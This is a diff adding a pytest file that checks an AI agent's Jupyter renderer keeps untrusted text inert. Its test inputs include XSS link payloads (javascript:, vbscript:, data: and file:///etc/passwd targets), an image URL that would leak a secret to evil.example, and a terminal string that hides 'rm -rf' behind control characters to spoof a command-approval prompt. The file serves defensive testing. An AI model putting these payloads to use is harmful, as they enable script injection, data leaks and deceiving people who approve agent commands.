@@ -1,0 +1,194 @@
+"""The one renderer (issue #17): untrusted text reaches a page as escaped text and the Markdown
+parser's own tags, and a terminal with its control characters shown, never obeyed.
+
+The HTML checks parse what the renderer made with the standard library's HTML parser and look
+at every tag and attribute a browser would build: no ``script``/``img``/``svg``/``iframe``
+element, no ``on*`` attribute, no ``srcdoc``, no link to anything but ``http(s)``."""
+
+from __future__ import annotations
+
+import pytest
+from payloads import (
+    ALL_HTML,
+    HTML_PAYLOADS,
+    PAYLOAD_JS,
+    TERMINAL_PAYLOADS,
+    TERMINAL_SPOOF,
+    assert_inert,
+    elements,
+)
+
+from lite_agent_jupyter.agent import (
+    ApprovalRequest,
+    ToolCallFinished,
+    ToolCallInput,
+    ToolCallStarted,
+)
+from lite_agent_jupyter.agent.approvals import asking_text, input_text
+from lite_agent_jupyter.controls import SHOWN, terminal_safe
+from lite_agent_jupyter.jupyter import approval, render, safe
+
+
+@pytest.mark.parametrize("marker", sorted(HTML_PAYLOADS))
+def test_markdown_html_keeps_payloads_as_text(marker: str) -> None:
+    payload = HTML_PAYLOADS[marker]
+    shown = assert_inert(safe.markdown_html(payload))
+    assert marker in shown
+    if "<" in payload and marker not in ("P6", "P8"):
+        tag = payload[payload.index("<") :].split(" ", 1)[0].split(">", 1)[0]
+        assert tag in shown  # the raw HTML is shown, as text
+
+
+def test_every_payload_together_and_the_js_stays_text() -> None:
+    shown = assert_inert(safe.markdown_html(ALL_HTML))
+    for marker in HTML_PAYLOADS:
+        assert marker in shown
+    assert "alert(1)" in shown and "fetch(" in shown  # visible, not run
+
+
+def test_the_harmless_form_of_the_bug_shows_the_stars() -> None:
+    html_text = safe.markdown_html("allowed: bash ls *.ipynb")
+    assert "<em>" not in html_text and "ls *.ipynb" in assert_inert(html_text)
+
+
+def test_links_only_to_http_and_https() -> None:
+    for target in (
+        "javascript:alert(1)",
+        "JaVaScRiPt:alert(1)",
+        " javascript:alert(1)",
+        "&#106;avascript:alert(1)",
+        "java&#x09;script:alert(1)",
+        "data:text/html,x",
+        "vbscript:msgbox(1)",
+        "file:///etc/passwd",
+        "/api/contents/x",
+        "../../api/terminals",
+        "//evil.example/x",
+        "#top",
+        "mailto:a@b.c",
+    ):
+        html_text = safe.markdown_html(f"[label]({target}) and <{target}>")
+        shown = assert_inert(html_text)
+        assert "<a " not in html_text, target
+        assert "label" in shown
+    link = safe.markdown_html("[docs](https://example.org/a?b=1) <http://example.org/c>")
+    assert_inert(link)
+    hrefs = [a.get("href") for tag, a in elements(link).tags if tag == "a"]
+    assert hrefs == ["https://example.org/a?b=1", "http://example.org/c"]
+    assert 'rel="noopener noreferrer nofollow"' in link
+
+
+def test_reference_links_are_checked_too() -> None:
+    text = "[x][bad] [y][good]\n\n[good]: https://example.org\n\n[bad]: javascript:alert(1)\n"
+    html_text = safe.markdown_html(text)
+    assert "[x][bad]" in assert_inert(html_text)
+    assert [a["href"] for t, a in elements(html_text).tags if t == "a"] == ["https://example.org"]
+
+
+def test_images_are_never_loaded() -> None:
+    html_text = safe.markdown_html("![chart](https://evil.example/leak?secret=1)")
+    assert "<img" not in html_text
+    assert "chart" in assert_inert(html_text)  # at most a plain link the reader may click
+
+
+def test_markdown_still_renders() -> None:
+    text = (
+        "# Title\n\nSome *emphasis*, **strong**, ~~gone~~ and `code <b>`.\n\n"
+        "```python\nif a < b and c > d:\n    print('<script>')\n```\n\n"
+        "| col | other |\n|---|:---:|\n| 1 | <img src=x> |\n\n"
+        "- one\n- two\n\n1. first\n2. second\n\n> quoted\n\n"
+        "[the docs](https://example.org/docs)\n"
+    )
+    html_text = safe.markdown_html(text)
+    shown = assert_inert(html_text)
+    tags = [tag for tag, _ in elements(html_text).tags]
+    for tag in ("h1", "em", "strong", "s", "code", "pre", "table", "th", "td", "ul", "ol",
+                "li", "blockquote", "a"):  # fmt: skip
+        assert tag in tags, tag
+    assert "print('<script>')" in shown and "<img src=x>" in shown
+    assert 'class="language-python"' in html_text
+
+
+def test_escape_and_terminal_safe_show_controls() -> None:
+    assert terminal_safe(TERMINAL_SPOOF) == "rm -rf important_a #\\r\\x1b[2KAllow bash ls -la"
+    assert safe.escape('<a href="x">\u202e') == "&lt;a href=&quot;x&quot;&gt;\\u202e"
+    for text in TERMINAL_PAYLOADS:
+        shown = terminal_safe(text)
+        assert not any(ord(c) in SHOWN for c in shown), repr(shown)
+        assert shown.isascii() or all(ord(c) not in SHOWN for c in shown)
+    assert terminal_safe("a\tb\nc\r\nd") == "a\tb\nc\nd"  # layout stays
+    plain = "nothing to do here"
+    assert terminal_safe(plain) is plain
+
+
+def test_every_shown_code_point_has_a_visible_escape() -> None:
+    for code in SHOWN:
+        shown = terminal_safe(f"a{chr(code)}b")
+        assert shown.startswith("a\\") and shown.endswith("b") and shown.isascii()
+
+
+def _view_with_everything() -> render.TurnView:
+    view = render.TurnView(notes=[HTML_PAYLOADS["P1"]])
+    view.add_text(ALL_HTML)
+    view.tool_started(ToolCallStarted("t1", "bash"))
+    view.tool_input(ToolCallInput("t1", "bash", {"command": HTML_PAYLOADS["P2"]}))
+    view.tool_finished(ToolCallFinished("t1", "bash", HTML_PAYLOADS["P3"], False))
+    view.add_text("after the tool " + HTML_PAYLOADS["P4"])
+    view.status = "error: APIError: " + HTML_PAYLOADS["P1"]
+    view.footer = "footer " + HTML_PAYLOADS["P2"]
+    return view
+
+
+def test_turn_view_html_is_inert_on_every_surface() -> None:
+    view = _view_with_everything()
+    shown = assert_inert(view.html())
+    for marker in ("P1", "P2", "P3", "P4", "P9"):
+        assert marker in shown
+    bundle = safe.bundle(view.html(), view.plain())
+    assert set(bundle) == {"text/html", "text/plain"}  # no text/markdown: it renders raw HTML
+
+
+def test_turn_view_renders_only_the_part_that_grew() -> None:
+    view = render.TurnView()
+    view.add_text("first part")
+    view.tool_started(ToolCallStarted("t1", "bash"))
+    view.add_text("second")
+    first = view.html()
+    cached = view._rendered[0]
+    view.add_text(" part")
+    second = view.html()
+    assert view._rendered[0] is cached and "second part" in second and first != second
+
+
+def _request(command: str) -> ApprovalRequest:
+    return ApprovalRequest("bash", {"command": command}, "shell", "s1", "t1")
+
+
+def test_the_approval_record_line_is_inert_and_says_when_it_is_cut() -> None:
+    long_command = "echo start; " + "x" * 2800 + "; echo END-OF-COMMAND"
+    line = approval.outcome_text(_request(long_command), "allowed")
+    assert line.endswith(f"… {len(long_command):,} chars") and len(line) < 120
+    record = approval.outcome_text(_request(HTML_PAYLOADS["P1"]), "allowed")
+    assert_inert(f"<p><em>{safe.escape(record)}</em></p>")
+    assert approval.outcome_text(_request("ls *.ipynb"), "denied") == "denied: bash ls *.ipynb"
+
+
+def test_the_whole_input_is_shown_before_asking() -> None:
+    long_command = "echo start; " + "x" * 2800 + "; echo END-OF-COMMAND"
+    assert "END-OF-COMMAND" in input_text(_request(long_command))
+    spoof = asking_text(_request(TERMINAL_SPOOF))
+    assert spoof.startswith("\nThe agent wants to run bash (shell):\n")
+    assert "\r" not in spoof and "\x1b" not in spoof
+    assert "\\r\\u001b[2KAllow bash ls -la" in spoof  # JSON's escapes, visible
+    bidi = input_text(_request("cat \u202etxt.exe"))
+    assert "\\u202e" in bidi and "\u202e" not in bidi
+
+
+def test_tables_show_controls() -> None:
+    rows = render.key_value_text([("title", TERMINAL_SPOOF)])
+    assert "\r" not in rows and "\x1b" not in rows and "\\r\\x1b[2K" in rows
+
+
+def test_payload_js_has_no_quote_or_space() -> None:
+    """It must survive every surface unchanged (an attribute, a link target, JSON)."""
+    assert not set(PAYLOAD_JS) & {" ", '"', "'", "\n"}
